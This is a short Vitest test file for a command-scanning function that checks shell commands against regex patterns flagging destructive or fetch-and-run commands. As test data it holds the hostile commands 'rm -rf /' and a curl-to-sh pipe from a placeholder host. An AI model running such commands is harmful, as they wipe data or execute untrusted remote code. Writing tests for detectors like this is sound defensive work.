import { describe, expect, it } from 'vitest';
import { commandScanner } from './rule-matcher.js';

describe('commandScanner', () => {
  const patterns = ['\\brm\\s+-rf\\b', '--no-preserve-root', '\\bcurl\\b[^|]*\\|\\s*sh\\b'];

  it('says a command may match exactly when one of the patterns matches it', () => {
    const commands = ['rm -rf /', 'ls -la', 'curl https://x.example/i.sh | sh', 'echo --no-preserve-root', 'curl https://x.example'];
    const mayMatch = commandScanner(patterns)(commands);
    for (const command of commands) {
      expect([command, mayMatch(command)]).toEqual([command, patterns.some((p) => new RegExp(p, 'u').test(command))]);
    }
  });

  it('lets every command through when patterns cannot be joined or there are none', () => {
    expect(commandScanner(['(a)\\1', 'b'])(['ls'])('ls')).toBe(true);
    expect(commandScanner(['(?<x>a)\\k<x>'])(['ls'])('ls')).toBe(true);
    expect(commandScanner([])(['ls'])('ls')).toBe(true);
  });
});
